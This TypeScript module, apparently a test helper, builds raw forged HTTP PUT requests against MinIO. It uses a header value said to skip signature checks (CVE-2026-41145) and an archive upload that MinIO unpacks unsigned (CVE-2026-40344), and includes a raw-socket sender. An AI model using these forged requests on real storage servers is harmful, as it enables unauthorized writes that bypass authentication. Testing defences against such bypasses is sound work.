import { crc32 } from 'node:zlib';
import { encodeCrc32 } from '../../../src/session/crc32.ts';
import { type RawAnswer, RawConnection } from '../network/raw-connection.ts';

/** The header value that keeps MinIO from checking a signature (CVE-2026-41145). */
export const FORGING_WORD = 'STREAMING-UNSIGNED-PAYLOAD-TRAILER';

/** The head of a request exactly as it is sent, including its line ends. */
export interface RawHead {
  readonly method: string;
  readonly target: string;
  readonly version: string;
  readonly lines: readonly string[];
  readonly lineEnd: string;
}

/** Changes the head of a request. `endpoint` is where the request is sent. */
export type Change = (head: RawHead, endpoint: string) => RawHead;

/** Encodes `body` as a forged PUT declares it: aws-chunked, with its CRC32 as the trailer. */
export function inChunks(body: Buffer): string {
  const checksum = encodeCrc32(crc32(body));
  return `${body.length.toString(16)}\r\n${body.toString('latin1')}\r\n0\r\nx-amz-checksum-crc32:${checksum}\r\n\r\n`;
}

/** Returns the head of a PUT in the name of the URL's access key id, without the header that exploits the hole. */
export function aForgedHead(url: URL, body: Buffer): RawHead {
  return aHead(url, [
    'Content-Encoding: aws-chunked',
    `Content-Length: ${inChunks(body).length}`,
    `X-Amz-Decoded-Content-Length: ${body.length}`,
    'X-Amz-Trailer: x-amz-checksum-crc32',
  ]);
}

/** Returns the head of a PUT of an archive, which MinIO unpacks from the plain body (CVE-2026-40344), without the header that asks for it. */
export function aForgedArchiveHead(url: URL, archive: string): RawHead {
  return aHead(url, [`x-amz-content-sha256: ${FORGING_WORD}`, `Content-Length: ${archive.length}`]);
}

function aHead({ pathname, search }: URL, lines: readonly string[]): RawHead {
  const target = `${pathname}${search}`;
  return { method: 'PUT', target, version: 'HTTP/1.1', lines: [...lines, 'Connection: close'], lineEnd: '\r\n' };
}

export function withLines(...more: string[]): Change {
  return (head) => ({ ...head, lines: [...head.lines, ...more] });
}

export function withQuery(more: string): Change {
  return (head) => ({ ...head, target: `${head.target}&${more}` });
}

/** Escapes every character with a percent sign. */
export function percentEncoded(text: string): string {
  return [...text].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('');
}

export function textOf({ method, target, version, lines, lineEnd }: RawHead, host: string): string {
  return [`${method} ${target} ${version}`, `Host: ${host}`, ...lines, '', ''].join(lineEnd);
}

export interface ForgedAnswer extends RawAnswer {
  /** The `<Code>` of an S3 error. */
  readonly code?: string | undefined;
}

/** Sends the request over a new connection, which the head must ask the server to close. */
export async function sendForged(endpoint: string, head: RawHead, body: string): Promise<ForgedAnswer> {
  const connection = await RawConnection.to(endpoint);
  connection.send(`${textOf(head, new URL(endpoint).host)}${body}`);
  const answer = await connection.answer();
  return { ...answer, code: /<Code>(\w+)<\/Code>/.exec(answer.body)?.[1] };
}
